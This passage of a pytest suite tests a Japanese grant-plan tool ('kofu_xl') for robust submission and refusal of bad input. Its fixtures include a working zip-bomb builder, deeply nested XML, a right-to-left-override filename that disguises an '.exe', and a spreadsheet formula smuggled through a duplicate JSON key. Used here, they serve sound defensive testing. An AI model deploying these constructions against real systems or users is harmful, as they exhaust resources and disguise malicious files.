    assert "別の提出" in str(exc.value) and "実行中" in str(exc.value) and exc.value.exit_code == 2
    assert not (tmp_path / "提出").exists()
    # once free, it goes through
    assert submit(FileSurface(book, quiet=True), tmp_path / "提出").status == "written"


def test_submit_never_removes_files_it_did_not_write(tmp_path, monkeypatch):
    """Names already taken (another run's package, a clerk's file) are never reused or removed,
    even when this run fails and rolls back; the 提出記録 row comes after the files."""
    import datetime as dt

    from kofu_xl.app import submit as submit_mod
    from kofu_xl.book.surfaces import FileSurface
    from kofu_xl.errors import CannotWrite

    book = _good_book(tmp_path)
    out = tmp_path / "提出"
    out.mkdir()
    now = dt.datetime(2019, 10, 3, 9, 0)
    theirs = {out / f"122327_白井市_交付円滑化計画_20191003{ext}": f"other {ext}".encode() for ext in (".xlsx", ".json", ".html")}
    for p, data in theirs.items():
        p.write_bytes(data)
    real = os.link
    calls = {"n": 0}

    def flaky(src, dst):
        calls["n"] += 1
        if calls["n"] == 3:
            raise OSError(28, "No space left on device")
        return real(src, dst)

    monkeypatch.setattr(submit_mod.os, "link", flaky)
    before = book.read_bytes()
    with pytest.raises(CannotWrite):
        submit_mod.submit(FileSurface(book, quiet=True), out, now=now)
    assert {p: p.read_bytes() for p in theirs} == theirs and sorted(out.iterdir()) == sorted(theirs)
    assert book.read_bytes() == before  # no 提出記録 row for files that are not there
    monkeypatch.setattr(submit_mod.os, "link", real)
    outcome = submit_mod.submit(FileSurface(book, quiet=True), out, now=now)
    assert outcome.status == "written" and all(p.name.endswith(("_2.xlsx", "_2.json", "_2.html")) for p in outcome.files)
    assert {p: p.read_bytes() for p in theirs} == theirs
    rows = _assert_every_row_has_its_files(book, out)
    assert len(rows) == 1


def test_submit_through_a_symlink_writes_the_target(tmp_path):
    (tmp_path / "本物").mkdir()
    real = _good_book(tmp_path / "本物")
    link = tmp_path / "リンク.xlsm"
    link.symlink_to(real)
    r = run("submit", str(link), "--out", str(tmp_path / "提出"), cwd=tmp_path)
    assert r.returncode == 0, r.stderr[-500:]
    assert link.is_symlink() and link.resolve() == real.resolve()
    assert len(_assert_every_row_has_its_files(real, tmp_path / "提出")) == 1


def test_kill_9_leftovers_are_cleaned_and_unlogged_packages_pointed_out(tmp_path):
    import datetime as dt

    from kofu_xl.app.submit import submit
    from kofu_xl.book.surfaces import FileSurface

    book = _good_book(tmp_path)
    out = tmp_path / "提出"
    out.mkdir()
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True).stdout.strip()
    orphan = out / f".kofu-{dead}-abcd1234.tmp"
    orphan.write_bytes(b"half a package")
    live = out / f".kofu-{os.getpid()}-running.tmp"  # a run still going: left alone
    live.write_bytes(b"x")
    stray = out / "122327_白井市_交付円滑化計画_20191001.xlsx"
    stray.write_bytes(b"a package whose row was never written")
    surface = FileSurface(book, quiet=True)
    outcome = submit(surface, out, now=dt.datetime(2019, 10, 3))
    assert outcome.status == "written"
    assert not orphan.exists() and live.exists() and stray.exists()
    assert any("提出記録にない提出ファイル" in m and stray.name in m for m in surface.messages), surface.messages
    live.unlink()


def test_package_files_follow_the_umask_and_names_drop_invisible_characters(tmp_path):
    import datetime as dt

    from kofu_xl.app.files import safe_filename
    from kofu_xl.app.submit import submit
    from kofu_xl.book.surfaces import FileSurface

    assert safe_filename("白井市\u202egpj.exe\u200b") == "白井市gpj.exe"
    assert safe_filename("白\x1b市") == "白市"
    old = os.umask(0o027)
    try:
        outcome = submit(FileSurface(_good_book(tmp_path), quiet=True), tmp_path / "提出", now=dt.datetime(2019, 10, 3))
    finally:
        os.umask(old)
    assert {p.stat().st_mode & 0o777 for p in outcome.files} == {0o640}


@pytest.mark.parametrize("kind", ["file-in-the-way", "name-too-long"])
def test_out_errors_are_japanese(kind, tmp_path):
    book = _good_book(tmp_path)
    if kind == "file-in-the-way":
        blocker = tmp_path / "提出"
        blocker.write_text("x")
        out = blocker
    else:
        out = tmp_path / ("長" * 200)
    r = run("submit", str(book), "--out", str(out), cwd=tmp_path)
    assert r.returncode == 2 and "書き込めません" in r.stderr, r.stderr
    assert not re.search(r"File exists|File name too long|Not a directory", r.stderr), r.stderr


# ---------------------------------------------------------------- issue 20: numbers from outside


_MEASURED_CHILD = (
    "import sys, time\n"
    "from kofu_xl.cli import main\n"
    "t = time.perf_counter()\n"
    "try:\n"
    "    rc = main(sys.argv[1:])\n"
    "finally:\n"
    "    sys.stderr.write(f'\\nSECONDS {time.perf_counter() - t:.3f}\\n')\n"
    "sys.exit(rc)\n"
)
_LAUNCHER = (
    "import resource, subprocess, sys\n"
    "r = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
    "sys.stdout.write(r.stdout)\n"
    "sys.stderr.write(r.stderr + f'\\nPEAK {resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}\\n')\n"
    "sys.exit(r.returncode)\n"
)


def run_measured(*args: str, cwd: Path) -> tuple[subprocess.CompletedProcess, float, int]:
    """A command run in a fresh interpreter: its time from the start of the command (imports
    excluded) and its peak RSS in bytes, resource.getrusage(RUSAGE_CHILDREN) of a small
    launcher (a child forked from pytest itself would carry pytest's peak)."""
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    r = subprocess.run(
        [sys.executable, "-c", _LAUNCHER, sys.executable, "-c", _MEASURED_CHILD, *args],
        capture_output=True, text=True, cwd=cwd, env=env, timeout=TIME_LIMIT, preexec_fn=_limits,
    )
    seconds = re.search(r"SECONDS ([0-9.]+)", r.stderr)
    peak = re.search(r"PEAK (\d+)", r.stderr)
    assert seconds and peak, r.stderr[-800:]
    return r, float(seconds[1]), int(peak[1]) * 1024


def _stats_file(tmp_path: Path, name: str, shiroi: str | None = None, source: str = "20200801.csv") -> Path:
    lines = (_stats_dir() / source).read_text(encoding="utf-8-sig").splitlines()
    if shiroi is not None:
        lines = [shiroi if '"白井市"' in line else line for line in lines]
    path = tmp_path / name
    path.write_text("\ufeff" + "\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_a_count_above_the_population_is_an_error_and_judges_nothing(tmp_path):
    """1e23 cards for 63,723 people: an error finding, exit 1, and the checkpoint is not met by it."""
    stats = _stats_file(tmp_path, "20200801.csv", '"2020/08/01","千葉県","白井市",63723,100000000000000000000000,20.5,"2019/01/01","2020/08/01",122327')
    r = run("followup", str(SHIPPED), "--stats", str(stats), "--json", cwd=tmp_path)
    assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr[-500:]
    data = json.loads(r.stdout)
    found = [f for f in data["findings"] if f["rule"] == "actual-above-population"]
    assert found and found[0]["severity"] == "error" and found[0]["column"] == "2020-07" and "20200801.csv" in found[0]["message"]
    july = next(v for v in data["followup"]["verdicts"] if v["checkpoint"] == "2020-07")
    assert july["met"] is not True and july["actual_cumulative"] is None


def test_a_cumulative_that_goes_down_is_an_error(tmp_path):
    first = _stats_file(tmp_path, "20200801.csv")
    later = _stats_file(tmp_path, "20200901.csv", '"2020/09/01","千葉県","白井市",63324,100,22.6,"2020/01/01","2020/09/01",122327', source="20200901.csv")
    r = run("followup", str(SHIPPED), "--stats", str(first), str(later), "--json", cwd=tmp_path)
    assert r.returncode == 1, r.stderr[-500:]
    found = [f for f in json.loads(r.stdout)["findings"] if f["rule"] == "actual-decreasing"]
    assert len(found) == 1 and found[0]["column"] == "2020-08" and found[0]["expected"] == 13039 and found[0]["actual"] == 100
    assert "20200801.csv" in found[0]["message"] and "20200901.csv" in found[0]["message"]
    # the real statistics raise neither
    r = run("followup", str(SHIPPED), "--stats", str(_stats_dir()), "--json", cwd=tmp_path)
    assert not [f for f in json.loads(r.stdout)["findings"] if f["rule"] in ("actual-decreasing", "actual-above-population")]


@pytest.mark.parametrize("kind", ["million-rows", "50MB-field", "too-many-rows", "long-field", "not-a-date-name"])
def test_statistics_limits_apply_while_reading(kind, tmp_path):
    """Oversized statistics are refused (exit 2, the file named) before they cost memory:
    peak RSS stays within 60 MiB of a run on a real file."""
    header = (_stats_dir() / "20200801.csv").read_text(encoding="utf-8-sig").splitlines()[0]
    row = '"2020/08/01","千葉県","白井市",63723,13039,20.5,"2019/01/01","2020/08/01",122327'
    path = tmp_path / "20200801.csv"
    if kind == "million-rows":
        with path.open("w", encoding="utf-8") as fh:
            fh.write(header + "\n")
            for _ in range(1000):
                fh.write((row + "\n") * 1000)
    elif kind == "50MB-field":
        path.write_text(header + "\n" + row.replace('"白井市"', '"' + "白" * ((50 << 20) // 3) + '"') + "\n", encoding="utf-8")
    elif kind == "too-many-rows":  # under the size limit, over the row limit
        path.write_text(header + "\n" + (row + "\n") * 20_001, encoding="utf-8")
    elif kind == "long-field":
        path.write_text(header + "\n" + row.replace('"白井市"', '"' + "x" * 100_000 + '"') + "\n", encoding="utf-8")
    else:
        path = tmp_path / "20201301.csv"
        path.write_text(header + "\n" + row + "\n", encoding="utf-8")
    _, _, baseline = run_measured("followup", str(SHIPPED), "--stats", str(_stats_dir() / "20200801.csv"), cwd=tmp_path)
    r, seconds, peak = run_measured("followup", str(SHIPPED), "--stats", str(path), cwd=tmp_path)
    assert r.returncode == 2 and "Traceback" not in r.stderr, r.stderr[-500:]
    assert path.name in r.stderr and "読めません" in r.stderr
    assert peak < baseline + 60 * 1024 * 1024, (kind, peak >> 20, baseline >> 20)
    print(f"\n{kind}: refused in {seconds:.2f} s, peak RSS {peak >> 20} MiB (real file {baseline >> 20} MiB)")


# ---------------------------------------------------------------- issue 20: zips and XML, one verdict


def _lying_zip(base: bytes, part: str, payload: bytes, padding: int, pad_byte: bytes = b" ") -> bytes:
    """A copy of ``base`` whose ``part`` inflates to ``payload`` followed by ``padding`` bytes
    while its local and central headers claim ``len(payload)`` bytes and the payload's CRC
    (a reader that trusts the headers accepts it; one that inflates the stream gets it all)."""
    import struct
    import zlib

    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = comp.compress(payload) + comp.flush(zlib.Z_FULL_FLUSH)
    # after a full flush a block refers to nothing before it: one compressed MiB, repeated
    block = comp.compress(pad_byte * (1 << 20)) + comp.flush(zlib.Z_FULL_FLUSH)
    stream = head + block * (padding >> 20) + comp.flush()
    src = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    central = []
    for info in src.infolist():
        raw = src.fp
        raw.seek(info.header_offset)
        head = bytearray(raw.read(30))
        name_len, extra_len = struct.unpack("<HH", head[26:30])
        name_extra = raw.read(name_len + extra_len)
        body = raw.read(info.compress_size)
        crc, size, method = info.CRC, info.file_size, info.compress_type
        if info.filename == part:
            body, crc, size, method = stream, zlib.crc32(payload), len(payload), zipfile.ZIP_DEFLATED
        struct.pack_into("<HHHHHIII", head, 4, 20, info.flag_bits & ~0x8, method, 0, 0, crc, len(body), size)
        offset = out.tell()
        out.write(bytes(head) + name_extra + body)
        fn = info.filename.encode("utf-8")
        central.append(struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, info.flag_bits & ~0x8, method, 0, 0, crc, len(body), size, len(fn), 0, 0, 0, 0, 0, offset) + fn)
    start = out.tell()
    out.write(b"".join(central))
    out.write(struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


def _verdicts(path: Path, tmp_path: Path) -> dict[str, int]:
    """Exit code of every command that reads a plan, on one file."""
    got = {}
    got["check"] = run("check", str(path), cwd=tmp_path)
    got["submit"] = run("submit", str(path), "--out", str(tmp_path / "提出"), cwd=tmp_path)
    got["build"] = run("build", "--plan", str(path), "--out", str(tmp_path / "b.xlsm"), cwd=tmp_path)
    got["followup"] = run("followup", str(path), "--stats", str(_stats_dir() / "20200801.csv"), cwd=tmp_path)
    folder = tmp_path / "集約"
    folder.mkdir(exist_ok=True)
    (folder / path.name).write_bytes(path.read_bytes())
    got["aggregate"] = run("aggregate", str(folder), "--out", str(tmp_path / "集計.xlsx"), cwd=tmp_path)
    for name, r in got.items():
        assert "Traceback" not in r.stderr and r.returncode != 3, (name, r.stderr[-600:])
    return {name: r.returncode for name, r in got.items()}


def _hostile_books() -> dict[str, Callable[[bytes], bytes]]:
    deep = b"<extLst>" + b"<ext>" * 100_000 + b"</ext>" * 100_000 + b"</extLst>"
    return {
        "deep-xml": lambda base: _rezip(base, _in_sheet(S11, lambda d: d.replace(b"</worksheet>", deep + b"</worksheet>"))),
        "malformed-workbook-xml": lambda base: _rezip(base, lambda n, d: d.replace(b"</sheets>", b"<sheets>") if n == "xl/workbook.xml" else d),
        "raw-control-byte": lambda base: _rezip(base, _in_sheet(S11, lambda d: d.replace(b"<sheetData>", b"<sheetData>\x1b", 1))),
        "malformed-chart": lambda base: _rezip(base, lambda n, d: d[: len(d) // 2] if n.startswith("xl/charts/") and n.endswith(".xml") else d),
    }


@pytest.mark.parametrize("item", sorted(_hostile_books()))
def test_every_command_gives_the_same_verdict(item, tmp_path):
    """10^5 nested elements, a malformed workbook.xml or chart, a raw control byte: check,
    submit, build, followup and aggregate all refuse the file (exit 2), none crashes."""
    path = tmp_path / f"計画 {item}.xlsm"
    path.write_bytes(_hostile_books()[item](_good_book(tmp_path).read_bytes()))
    before = path.read_bytes()
    verdicts = _verdicts(path, tmp_path)
    assert verdicts == {"check": 2, "submit": 2, "build": 2, "followup": 2, "aggregate": 2}, verdicts
    assert path.read_bytes() == before


@pytest.mark.parametrize("padding", ["zeros", "spaces-after-valid-xml"])
def test_a_zip_lying_about_its_sizes_is_refused_fast_and_small(padding, tmp_path):
    """1 GiB inflated from a ~1 MB file whose headers claim the sheet's real size: refused by
    check, submit, followup and aggregate within 1 s of the same command's refusal of a file
    that is no zip at all (the commands' own imports, ~1 s on a loaded machine, are in both)
    and under 200 MiB each."""
    base = _good_book(tmp_path).read_bytes()
    sheet = zipfile.ZipFile(io.BytesIO(base)).read(S11)
    payload, pad = (b"", b"\0") if padding == "zeros" else (sheet, b" ")
    path = tmp_path / "嘘の見出し.xlsm"
    path.write_bytes(_lying_zip(base, S11, payload, 1 << 30, pad))
    assert path.stat().st_size < 2 * 1024 * 1024
    folder = tmp_path / "集約"
    folder.mkdir()
    (folder / path.name).write_bytes(path.read_bytes())
    junk = tmp_path / "zipではない.xlsm"
    junk.write_bytes(b"not a zip" * 100)
    junk_folder = tmp_path / "集約2"
    junk_folder.mkdir()
    (junk_folder / junk.name).write_bytes(junk.read_bytes())
    for args, reference in (
        (("check", str(path)), ("check", str(junk))),
        (("submit", str(path), "--out", str(tmp_path / "提出")), ("submit", str(junk), "--out", str(tmp_path / "提出"))),
        (("followup", str(path), "--stats", str(_stats_dir() / "20200801.csv")), ("followup", str(junk), "--stats", str(_stats_dir() / "20200801.csv"))),
        (("aggregate", str(folder), "--out", str(tmp_path / "集計.xlsx"), "--jobs", "1"), ("aggregate", str(junk_folder), "--out", str(tmp_path / "集計2.xlsx"), "--jobs", "1")),
    ):
        r, seconds, peak = run_measured(*args, cwd=tmp_path)
        _, ref_seconds, _ = run_measured(*reference, cwd=tmp_path)
        assert r.returncode == 2 and "Traceback" not in r.stderr, (args[0], r.stderr[-600:])
        assert seconds - ref_seconds < 1.0 and peak < 200 * 1024 * 1024, (args[0], seconds, ref_seconds, peak >> 20)
        print(f"\n{padding} {args[0]}: refused in {seconds:.2f} s (a non-zip: {ref_seconds:.2f} s), peak RSS {peak >> 20} MiB")
    assert not (tmp_path / "提出").exists()


def test_daily_sheet_with_800k_extra_rows(tmp_path):
    """日次実績 with 800,000 rows below the calendar (4 MB file; was 41.7 s and 1.55 GB): the
    same answer as for the plain book, time and memory bounded (the guard still streams the
    whole part through its XML check, python-calamine still parses it; only the layout's rows
    become Python objects)."""
    book = _good_book(tmp_path)
    daily = "xl/worksheets/sheet4.xml"
    rows = b"".join(b'<row r="%d"><c r="B%d"><v>1</v></c></row>' % (r, r) for r in range(2000, 802_000))
    big = tmp_path / "大きい日次.xlsm"
    big.write_bytes(_rezip(book.read_bytes(), _in_sheet(daily, lambda d: d.replace(b"</sheetData>", rows + b"</sheetData>", 1))))
    stats = str(_stats_dir() / "20200801.csv")
    r0, s0, p0 = run_measured("followup", str(book), "--stats", stats, cwd=tmp_path)
    r1, s1, p1 = run_measured("followup", str(big), "--stats", stats, cwd=tmp_path)
    print(f"\n800k rows: {s1:.2f} s, {p1 >> 20} MiB; plain book: {s0:.2f} s, {p0 >> 20} MiB; file {big.stat().st_size >> 10} KiB")
    assert r1.returncode == r0.returncode and r1.stdout == r0.stdout.replace(book.name, big.name), r1.stderr[-500:]
    assert p1 < p0 + 400 * 1024 * 1024 and s1 < s0 + 25


def test_values_hidden_under_a_merge_are_not_read(tmp_path):
    """A value in a cell a merge hides (Excel shows only the top-left) is neither checked nor packaged."""
    from kofu_xl.book.layout import layout_for
    from kofu_xl.book.sources import load_raw
    from kofu_xl.core.model import Parameters

    s = layout_for(Parameters()).scalars["basic.department"]
    book = _good_book(tmp_path)
    col = s.cell.rstrip("0123456789")
    row = s.cell[len(col):]
    left = chr(ord(col) - 1) + row  # the cell to its left: the merge starts there and hides 担当課名
    book.write_bytes(
        _rezip(book.read_bytes(), _in_sheet(S11, lambda d: re.sub(rb"<mergeCells[^>]*>", lambda m: m[0] + f'<mergeCell ref="{left}:{s.cell}"/>'.encode(), d, count=1)))
    )
    raw = load_raw(book)[0]
    assert raw["basic"].get("department") in (None, "")


def test_duplicate_json_keys_are_refused(tmp_path):
    from tests.core.test_rules import corrected_seed

    text = json.dumps(corrected_seed(), ensure_ascii=False)
    text = text.replace('"municipality": "白井市"', '"municipality": "白井市", "municipality": "=HYPERLINK(\\"x\\")"', 1)
    assert text.count('"municipality"') == 2
    path = tmp_path / "重複.json"
    path.write_text(text, encoding="utf-8")
    r = run("check", str(path), cwd=tmp_path)
    assert r.returncode == 2 and "municipality" in r.stderr and "2回" in r.stderr, r.stderr


def test_the_ribbon_and_the_command_line_share_one_lock(tmp_path):
    """The live book (「検証して提出」) locks the same key as `kofu-xl submit` on its file."""
    from types import SimpleNamespace

    from kofu_xl.book.live import BookSurface
    from kofu_xl.book.surfaces import FileSurface

    book = _good_book(tmp_path)
    link = tmp_path / "リンク.xlsm"
    link.symlink_to(book)
    live = BookSurface(SimpleNamespace(name=book.name, fullname=str(book), sheets=[]))
    assert live.lock_key == FileSurface(book, quiet=True).lock_key == FileSurface(link, quiet=True).lock_key


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes: POSIX")
def test_a_named_pipe_is_refused_not_waited_on(tmp_path):
    """A named pipe (or a device) where a file is expected would block the reading for ever:
    every command that reads an input refuses it with a Japanese message (exit 2), and
    aggregate lists it, also when it stands beside a package's .json as its .xlsx."""
    import shutil

    os.mkfifo(tmp_path / "計画.xlsx")
    os.mkfifo(tmp_path / "計画.json")
    package = tmp_path / "束"
    package.mkdir()
    os.mkfifo(package / "p.xlsx")
    shutil.copy(REPO / "kofu_xl" / "data" / "shiroi_2019.plan.json", package / "p.json")
    data = json.loads((package / "p.json").read_text(encoding="utf-8"))
    (package / "p.json").write_text(json.dumps({"plan": data, "workbook_sha256": "0" * 64}, ensure_ascii=False), encoding="utf-8")
    said = "通常のファイルではありません"
    for args in (
        ("check", "計画.xlsx"), ("check", "計画.json"), ("submit", "計画.xlsx", "--no-pdf"), ("followup", "計画.xlsx"),
        ("upgrade", "計画.xlsx"), ("build", "--plan", "計画.json", "--out", "out.xlsm"), ("propose", "計画.xlsx"),
    ):
        r = run(*args, cwd=tmp_path)
        assert r.returncode == 2 and said in r.stderr, (args, r.returncode, r.stderr)
    r = run("aggregate", "計画.xlsx", "計画.json", "束", "--out", "集計.xlsx", cwd=tmp_path)
    assert r.returncode == 2 and r.stderr.count(said) == 3, r.stderr
    assert "p.xlsx" in r.stderr  # the package's edited (here: unreadable) workbook, not its stale .json


def test_a_json_that_cannot_be_looked_at_is_told_as_before(tmp_path):
    """The check for a named pipe keeps the JSON reader's messages for a path that cannot be
    looked at (a symbolic link loop, a file taken for a folder): 読み込みに失敗しました（…）."""
    from kofu_xl.book.sources import load_json
    from kofu_xl.errors import UnreadableInput

    loop = tmp_path / "loop.json"
    loop.symlink_to(loop)
    plain = tmp_path / "f.json"
    plain.write_text("{}", encoding="utf-8")
    for path in (loop, plain / "x.json"):
        with pytest.raises(UnreadableInput) as info:
            load_json(path)
        assert info.value.reason.startswith("読み込みに失敗しました（"), info.value.reason


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes: POSIX")
def test_a_named_pipe_in_a_statistics_folder_is_refused_not_waited_on(tmp_path):
    """The statistics folder (--stats, 公表統計 beside the book, $KOFU_STATS_DIR) is scanned for
    *.csv: a named pipe met there would block followup (and the ribbon's 実績取込) for ever."""
    stats = tmp_path / "公表統計"
    stats.mkdir()
    os.mkfifo(stats / "20200801.csv")
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    r = subprocess.run(
        [sys.executable, "-m", "kofu_xl", "followup", "--stats", str(stats)], capture_output=True, text=True, cwd=tmp_path, env=env, timeout=60
    )
    assert r.returncode == 2 and "通常のファイルではありません" in r.stderr and "20200801.csv" in r.stderr, r.stderr


def _part_of(book: bytes, sheet: str) -> str:
    from kofu_xl.book.read import _sheet_parts

    z = zipfile.ZipFile(io.BytesIO(book))
    return _sheet_parts(z.read("xl/workbook.xml"), z.read("xl/_rels/workbook.xml.rels"))[sheet]


@pytest.mark.parametrize("sheet, refused", [("計画案", False), ("xlwings.conf", False), ("本表1-2", True), ("実績比較", True)])
def test_a_cell_python_calamine_refuses_gives_every_command_one_verdict(sheet, refused, tmp_path):
    """A well-formed cell that python-calamine refuses to read (a boolean of 7): in a sheet the
    plan is read from, check, submit, build, followup and aggregate all refuse the file; in a
    sheet none of them reads, all give the verdicts of the same book without it (none refuses
    for a sheet it does not read while check reads the plan)."""
    good = _good_book(tmp_path / "good")
    base = good.read_bytes()
    part = _part_of(base, sheet)
    path = tmp_path / "bad" / "計画.xlsm"
    path.parent.mkdir()
    path.write_bytes(_rezip(base, _in_sheet(part, lambda d: _cell(d, "A1", b'<c r="A1" t="b"><v>7</v></c>'))))
    verdicts = _verdicts(path, path.parent)
    if refused:
        assert verdicts == {"check": 2, "submit": 2, "build": 2, "followup": 2, "aggregate": 2}, verdicts
    else:
        assert verdicts == _verdicts(good, good.parent), verdicts
